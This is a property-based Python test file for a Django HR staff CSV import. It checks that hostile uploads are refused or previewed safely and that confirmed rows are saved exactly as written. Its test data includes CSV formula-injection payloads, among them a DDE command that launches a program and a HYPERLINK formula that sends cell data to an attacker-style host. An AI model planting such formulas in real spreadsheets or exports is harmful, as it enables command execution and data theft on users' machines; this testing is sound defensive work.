"""HR's staff import fed hostile files: any bytes, any encoding, odd headers, formulas, long cells, duplicates, bad
dates, unknown departments and managers, reporting loops. Never a server error; a file refused whole changes
nothing and says why; a preview changes nothing; and confirming does exactly what the preview listed: every row
without a problem is saved as written, and no one else changes."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils.html import escape
from hypothesis import event, given, note
from hypothesis import strategies as st

from tests.factories import DepartmentFactory, EmployeeFactory, UserFactory
from tests.properties import HOSTILE_NAMES, examples, hostile_text, rolled_back
from tests.training.test_staff_import import department_path
from training.models import Assignment, AuditEvent, Department, Employee, Enrolment, Location
from training.services import assignment_create
from training.staff_import import COLUMNS, REQUIRED_COLUMNS, StaffFileError, staff_file_read

pytestmark = pytest.mark.django_db
User = get_user_model()
IMPORT = reverse("training:staff_import")

EXISTING = ["alice@example.org", "bob@example.org", "boss@example.org"]
# Each person's own employee id (a row may also leave it out); someone else's is among the hostile values.
EMPLOYEE_IDS = {
    "alice@example.org": "E1",
    "bob@example.org": "E2",
    "boss@example.org": "E3",
    "new1@example.org": "N1",
    "new2@example.org": "=cmd|' /C calc'!A0",
}
# Good values per column, then hostile ones: a row has good cells but for a few.
GOOD = {
    "employee_id": [""],  # or the person's own, from EMPLOYEE_IDS
    "email": [*EXISTING, "Alice@Example.org", "new1@example.org", "new2@example.org", "new3@example.org"],
    "first_name": ["Änne", "지우", "=1+1", "+1", "@SUM(A1)", "-2", ""],
    "last_name": ["Öberg", "陳", "O'Brien", '"quoted"', "Schäfer"],
    "department": ["Nursing", "Nursing/Ward 7", "nursing/WARD 7", "Pharmacy", "=1+1/-Ops", "New/Deep/Down"],
    "manager_email": ["", *EXISTING, "new1@example.org", "new2@example.org"],
    "location": ["", "Seoul", "seoul", "=Seoul", "Berlin"],
    "language": ["", "en", "KO", "zh-hant"],
    "hire_date": ["", "2024-03-01", "0001-01-01", "9999-12-31"],
    "status": ["active", "left", "ACTIVE", " active "],
}
BAD = {
    "employee_id": ["X" * 51, "E1", "E2", "N1"],
    "email": [
        "NEW1@example.org",
        "clash@example.org",  # another account's user name
        "not-an-email",
        "a@b",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "x" * 150 + "@example.org",
        "",
    ],
    "first_name": ["y" * 151],
    "last_name": ["", "z" * 151],
    "department": ["/", "A//B", " ", "", "d" * 201],
    "manager_email": ["ghost@example.org", "not-an-email", "=cmd"],
    "location": ["l" * 201],
    "language": ["fr", "=1", "english"],
    "hire_date": ["2024-02-30", "31/12/2024", "0000-01-01", "2024-3-1", "２０２４-01-01", "=TODAY()"],
    "status": ["gone", "", "=1"],
}
UTF_8 = ["utf-8", "utf-8-sig"]
ENCODINGS = [*UTF_8, "utf-16", "latin-1", "cp1252", "shift_jis"]


@pytest.fixture
def organisation(client, hr_user, course):
    """Three people in Nursing/Ward 7: Alice and Bob report to Boss; an account whose user name is an email it does
    not hold; and a course assigned to Nursing, due 30 days after joining, so that importing enrols people."""
    nursing = DepartmentFactory(name="Nursing")
    ward = DepartmentFactory(name="Ward 7", parent=nursing)
    assignment_create(
        created_by=hr_user,
        course=course,
        target=Assignment.Target.DEPARTMENT,
        department=nursing,
        include_subdepartments=True,
        due_days_after_hire=30,
    )
    Location.objects.create(name="Seoul")
    boss = EmployeeFactory(user__username="boss", user__email="boss@example.org", employee_id="E3", department=ward)
    for number, name in enumerate(["alice", "bob"], start=1):
        EmployeeFactory(
            user__username=name,
            user__email=f"{name}@example.org",
            employee_id=f"E{number}",
            department=ward,
            manager=boss.user,
        )
    UserFactory(username="clash@example.org", email="someone.else@example.org")
    client.force_login(hr_user)


def people() -> dict[int, tuple]:
    """Every account, its employee record, and the departments and locations, by user id (and by name)."""
    employees = {employee.user_id: employee for employee in Employee.objects.all()}
    users = {}
    for user in User.objects.order_by("pk"):
        employee = employees.get(user.pk)
        users[user.pk] = (
            user.username,
            user.email,
            user.first_name,
            user.last_name,
            user.is_active,
            user.has_usable_password(),
            None
            if employee is None
            else (
                employee.employee_id,
                employee.department_id,
                employee.manager_id,
                employee.location_id,
                employee.language,
                employee.hire_date,
                employee.status,
                employee.left_on,
            ),
        )
    return users


def database() -> dict:
    return {
        "people": people(),
        "departments": sorted(Department.objects.values_list("pk", "name", "parent_id")),
        "locations": sorted(Location.objects.values_list("pk", "name")),
        "audit": AuditEvent.objects.count(),
        "enrolments": sorted(Enrolment.objects.values_list("user_id", "course_id", "due_date")),
    }


class UploadedBytes(io.BytesIO):
    """A file to upload under any name at all, even one Django would not make a file of (the browser sends it)."""

    def __init__(self, data: bytes, name: str):
        super().__init__(data)
        self.name = name


def upload(client, data: bytes, name="staff.csv"):
    return client.post(IMPORT, {"file": UploadedBytes(data, name)})


# Strategies


@st.composite
def staff_csv(draw) -> bytes:
    """A staff file: mostly the right columns in any order (sometimes one missing or twice, or unknown ones), rows
    of good and hostile cells, in some encoding."""
    optional = [name for name in COLUMNS if name not in REQUIRED_COLUMNS]
    header = [*REQUIRED_COLUMNS, *draw(st.lists(st.sampled_from(optional), unique=True))]
    unknown = [*HOSTILE_NAMES, "=cmd", "", "Email"]
    extra = draw(st.lists(st.sampled_from(unknown), max_size=2, unique=True)) if draw(st.booleans()) else []
    header = draw(st.permutations(header + extra))
    if draw(st.integers(0, 19)) == 19:
        header = header[1:] if draw(st.booleans()) else [*header, header[0]]  # a column missing, or twice
    rows = []
    emails = draw(st.lists(st.sampled_from(GOOD["email"]), min_size=1, max_size=6, unique_by=str.casefold))
    for email in emails:
        row = {name: draw(st.sampled_from(GOOD[name])) for name in GOOD}
        row["email"], row["employee_id"] = email, draw(st.sampled_from(["", EMPLOYEE_IDS.get(email.lower(), "N9")]))
        if draw(st.integers(0, 3)) == 3:
            name = draw(st.sampled_from(list(BAD)))
            row[name] = draw(st.sampled_from(BAD[name]))
        row = [row[name] if name in row else draw(hostile_text) for name in header]
        if draw(st.integers(0, 19)) == 19:
            row = row[:-1] if draw(st.booleans()) else [*row, "spare"]
        rows.append(row)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=draw(st.sampled_from(["\r\n", "\n"])))
    writer.writerow(header)
    writer.writerows(rows)
    encoding = draw(st.sampled_from(ENCODINGS)) if draw(st.integers(0, 9)) == 9 else draw(st.sampled_from(UTF_8))
    return out.getvalue().encode(encoding, errors="replace")


any_file = st.one_of(
    st.binary(max_size=300),
    st.builds(lambda text, encoding: text.encode(encoding, errors="replace"), hostile_text, st.sampled_from(ENCODINGS)),
    st.builds(lambda header, rest: header + rest, st.sampled_from([b"\xef\xbb\xbf", b"", b"\xff\xfe"]), st.binary()),
    st.just(b"employee_id;email;first_name;last_name;department;status\r\nE9;a@example.org;A;B;C;active\r\n"),
    st.just(b"email,first_name\n" + b"\x00" * 10),
)


# Reading a file


@given(data=st.one_of(any_file, staff_csv()))
@examples(300)
def test_reading_any_bytes_gives_rows_or_a_reason_never_another_error(data):
    try:
        staff_file = staff_file_read(data)
    except StaffFileError as error:
        assert str(error).strip()
    else:
        assert staff_file.rows
        for row in staff_file.rows:
            assert all(str(problem) for problem in row.problems)


# The page


@given(data=any_file, name=st.one_of(st.just("staff.csv"), st.text(min_size=1, max_size=30)))
@examples(40)
def test_any_upload_is_refused_with_a_reason_or_previewed_and_nothing_is_saved(client, organisation, data, name):
    with rolled_back():
        before = database()

        response = upload(client, data, name=name)

        assert response.status_code == 200
        assert database() == before
        if "token" not in response.context:
            assert_refused_with_a_reason(response)


@given(data=staff_csv())
@examples(50)
def test_confirming_does_exactly_what_the_preview_listed(client, organisation, data):
    note(data.decode("utf-8", "replace"))
    with rolled_back():
        before = database()
        preview = upload(client, data)
        assert preview.status_code == 200
        assert database() == before, "a preview saves nothing"
        if "token" not in preview.context:
            event("refused whole")
            assert_refused_with_a_reason(preview)
            return
        event(f"{len(preview.context['result'].outcomes)} rows to import")
        result = preview.context["result"]

        response = client.post(IMPORT, {"token": preview.context["token"]})

        assert response.status_code == 302
        rows = {row.line: row for row in staff_file_read(data).rows}
        saved = [rows[outcome.line] for outcome in result.outcomes]
        assert {problem.line for problem in result.problems}.isdisjoint({row.line for row in saved})
        touched = set()
        for row in saved:
            assert_saved_as_written(row)
            touched.add(User.objects.get(email__iexact=row.email).pk)
        after = database()
        assert {pk: person for pk, person in after["people"].items() if pk not in touched} == {
            pk: person for pk, person in before["people"].items() if pk not in touched
        }, "no one the file does not import changes"
        enrolled = {user_id for user_id, *_ in set(after["enrolments"]) - set(before["enrolments"])}
        assert enrolled <= touched, "only people the file imports are enrolled by the assignment"
        messages = [str(message) for message in response.wsgi_request._messages]
        counts = (len(result.created), len(result.updated), len(result.deactivated), len(result.unchanged))
        created, updated, deactivated, unchanged = counts
        problems = result.rows_with_problems
        assert (
            f"{created} created, {updated} updated, {deactivated} deactivated, {unchanged} unchanged, "
            f"{problems} {'row' if problems == 1 else 'rows'} with problems."
        ) in messages[0]
        again = upload(client, data).context["result"]
        assert [
            (outcome.line, outcome.changes) for outcome in again.outcomes if outcome.line in rows_saved(result)
        ] == [(line, ()) for line in sorted(rows_saved(result))], "importing the same file again changes nothing"


def rows_saved(result) -> set[int]:
    return {outcome.line for outcome in result.outcomes}


def assert_refused_with_a_reason(response) -> None:
    """The form shows why the file was refused, next to the file field."""
    reasons = response.context["form"].errors["file"]
    assert reasons
    page = response.content.decode()
    assert all(escape(reason) in page for reason in reasons)


def assert_saved_as_written(row) -> None:
    user = User.objects.select_related(
        "employee__department__parent__parent", "employee__manager", "employee__location"
    ).get(email__iexact=row.email)
    employee = user.employee
    assert user.email == row.email
    assert (user.first_name, user.last_name) == (row.first_name, row.last_name)
    assert user.is_active == (row.status == "active") and employee.status == row.status
    assert department_path(employee.department).casefold() == "/".join(row.department).casefold()
    if row.employee_id:
        assert employee.employee_id == row.employee_id
    if "manager_email" in row.columns:
        assert (employee.manager.email.casefold() if employee.manager else "") == row.manager_email.casefold()
    if "location" in row.columns:
        assert (employee.location.name.casefold() if employee.location else "") == row.location.casefold()
    if "language" in row.columns:
        assert employee.language == row.language
    if "hire_date" in row.columns:
        assert employee.hire_date == row.hire_date
